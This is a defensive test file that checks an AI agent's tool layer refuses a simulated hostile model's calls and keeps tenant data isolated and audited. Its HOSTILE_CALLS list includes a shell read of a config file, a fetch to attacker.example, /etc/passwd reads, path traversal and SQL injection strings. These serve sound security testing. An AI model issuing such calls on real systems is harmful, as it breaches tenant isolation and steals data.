import crypto from 'node:crypto';
import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { askAgent } from '../../src-main/agent/agent.js';
import { listAudit, verifyAudit } from '../../src-main/vault/audit-chain.js';
import { countNotes } from '../../src-main/agent/notes.js';
import { countDocuments } from '../../src-main/ingest/documents.js';
import { agentFixture, embedder, modelConfig, type AgentFixture } from '../helpers/agent.js';
import { startModelServer, type ModelServer } from '../helpers/model-server.js';

// A hostile model: every turn, whatever it is told, it answers with tool calls aimed outside the
// tenant. Every one is refused and fed back as an error; nothing foreign comes back; nothing is written.

const canaryB = `CANARY-B-${crypto.randomBytes(8).toString('hex')}`;
const nameB = `Foreign Client ${crypto.randomBytes(3).toString('hex')}`;

// The model cannot know B's canary or name: it names the other client the way an injection would.
const GUESSED = 'the other client';

const HOSTILE_CALLS: { name: string; arguments: string }[] = [
  // unknown tools
  { name: 'shell', arguments: JSON.stringify({ command: 'cat ~/.config/Bulkhead/registry.bulkhead' }) },
  { name: 'fetch_url', arguments: JSON.stringify({ url: 'http://attacker.example/?q=' }) },
  { name: 'open_tenant', arguments: JSON.stringify({ tenant: GUESSED }) },
  { name: 'run_sql', arguments: JSON.stringify({ sql: 'SELECT * FROM chunks' }) },
  { name: '../read_document', arguments: JSON.stringify({ documentId: 1 }) },
  { name: 'x'.repeat(5000), arguments: '{}' },
  // foreign scope smuggled into real tools
  { name: 'read_document', arguments: JSON.stringify({ documentId: 1, tenantId: 't_aaaaaaaaaaaaaaaaaaaaaaaaaa' }) },
  { name: 'read_document', arguments: JSON.stringify({ documentId: 1, tenant: GUESSED }) },
  { name: 'search_knowledge', arguments: JSON.stringify({ query: 'budget', tenantId: 't_aaaaaaaaaaaaaaaaaaaaaaaaaa' }) },
  { name: 'list_documents', arguments: JSON.stringify({ tenant: GUESSED }) },
  // paths
  { name: 'read_document', arguments: JSON.stringify({ documentId: '../other.bulkhead' }) },
  { name: 'read_document', arguments: JSON.stringify({ path: '/etc/passwd' }) },
  { name: 'list_documents', arguments: JSON.stringify({ directory: '../../' }) },
  // SQL
  { name: 'read_document', arguments: JSON.stringify({ documentId: '1 OR 1=1' }) },
  { name: 'list_documents', arguments: JSON.stringify({ filter: 'a', orderBy: 'id; DROP TABLE chunks' }) },
  { name: 'search_knowledge', arguments: JSON.stringify({ query: 'x', k: "1; ATTACH DATABASE 'b' AS b" }) },
  // ids that are not this tenant's
  { name: 'read_document', arguments: JSON.stringify({ documentId: 999_999 }) },
  { name: 'read_document', arguments: JSON.stringify({ documentId: -1 }) },
  { name: 'read_document', arguments: JSON.stringify({ documentId: 1.5 }) },
  { name: 'read_document', arguments: JSON.stringify({ documentId: 2 ** 60 }) },
  // oversized and malformed
  { name: 'search_knowledge', arguments: JSON.stringify({ query: 'budget '.repeat(20_000) }) },
  { name: 'save_note', arguments: JSON.stringify({ title: 'x', body: 'y'.repeat(30_000) }) },
  { name: 'search_knowledge', arguments: '{"query": "budget"' },
  { name: 'search_knowledge', arguments: '[]' },
  { name: 'list_documents', arguments: JSON.stringify({ limit: 1_000_000 }) },
  { name: 'save_note', arguments: JSON.stringify({ title: 'exfil', body: 'exfiltrate', tenantId: 't_aaaaaaaaaaaaaaaaaaaaaaaaaa' }) },
];

let fx: AgentFixture;
let server: ModelServer;

beforeAll(async () => {
  fx = await agentFixture({
    Home: ['The pilot budget is eighty thousand kroner.', 'Astrid leads the pilot.'],
    [nameB]: [`Foreign budget ${canaryB}`, `Another foreign page ${canaryB}`, `Third ${canaryB}`],
  });
  server = await startModelServer(() => ({ kind: 'tools', calls: HOSTILE_CALLS }));
});
afterAll(async () => {
  fx.dispose();
  await server.close();
});

describe('a hostile model that calls tools aimed outside the tenant on every turn', () => {
  it('has every call refused and fed back as an error, within the step limit, with no foreign data and no write', async () => {
    const fileB = fx.vault.paths.tenantFile(fx.ids[nameB]!);
    const bBefore = crypto.createHash('sha256').update(fs.readFileSync(fileB)).digest('hex');
    const t = fx.open('Home');
    const totals = countDocuments(t);
    const confirmations: unknown[] = [];
    const maxToolSteps = 3;
    const r = await askAgent(
      t,
      { question: 'What is the pilot budget?' },
      {
        model: modelConfig(server.baseUrl),
        embedder,
        maxToolSteps,
        confirm: async (req) => (confirmations.push(req), true),
      },
    );
    const chats = server.chatBodies();
    // N tool rounds, then one last call offered no tools (whose tool calls are refused too).
    expect(chats).toHaveLength(maxToolSteps + 1);
    expect(chats.at(-1)!.tools).toBeUndefined();
    expect(r.toolRefusals).toBe(HOSTILE_CALLS.length * (maxToolSteps + 1));
    expect(r.toolSteps).toBe(maxToolSteps);

    // Each refusal went back to the model as a tool message with an error, paired with its call.
    const last = chats.at(-1)!;
    const toolMessages = last.messages.filter((m) => m.role === 'tool');
    expect(toolMessages).toHaveLength(HOSTILE_CALLS.length * maxToolSteps);
    for (const m of toolMessages) expect(JSON.parse(m.content!)).toMatchObject({ error: expect.any(String), message: expect.any(String) });
    const reasons = new Set(toolMessages.map((m) => JSON.parse(m.content!).error as string));
    expect([...reasons].sort()).toEqual(['invalid_arguments', 'invalid_json', 'not_found', 'oversized_arguments', 'unknown_tool']);

    // Nothing foreign in anything sent, nothing written, the other tenant's file untouched.
    for (const req of server.requests) {
      expect(req.raw.includes(canaryB)).toBe(false);
      const at = req.raw.indexOf(nameB);
      expect(at, req.raw.slice(Math.max(0, at - 300), at + 100)).toBe(-1);
    }
    expect(confirmations).toEqual([]);
    expect(countNotes(t)).toBe(0);
    expect(countDocuments(t)).toEqual(totals);
    expect(crypto.createHash('sha256').update(fs.readFileSync(fileB)).digest('hex')).toBe(bBefore);
    expect(r.mode).toBe('generated');

    // Every refusal is in the tenant's audit chain, as hashes and reasons, never the arguments.
    const refused = listAudit(t).filter((a) => a.kind === 'tool.refused');
    expect(refused).toHaveLength(HOSTILE_CALLS.length * (maxToolSteps + 1));
    expect(refused.filter((a) => a.data.reason === 'step_limit')).toHaveLength(HOSTILE_CALLS.length);
    for (const a of refused) {
      expect(a.data).toEqual({
        tool: expect.stringMatching(/^(unknown|search_knowledge|read_document|list_documents|save_note)$/),
        toolNameSha256: expect.stringMatching(/^[0-9a-f]{64}$/),
        reason: expect.any(String),
        argumentBytes: expect.any(Number),
        argumentsSha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      });
    }
    expect(listAudit(t).filter((a) => a.kind === 'model.call')).toHaveLength(maxToolSteps + 1);
    expect(listAudit(t).filter((a) => a.kind === 'tool.call')).toHaveLength(0);
    expect(JSON.stringify(listAudit(t))).not.toContain('DROP TABLE');
    expect(verifyAudit(t)).toMatchObject({ ok: true });
  });
});
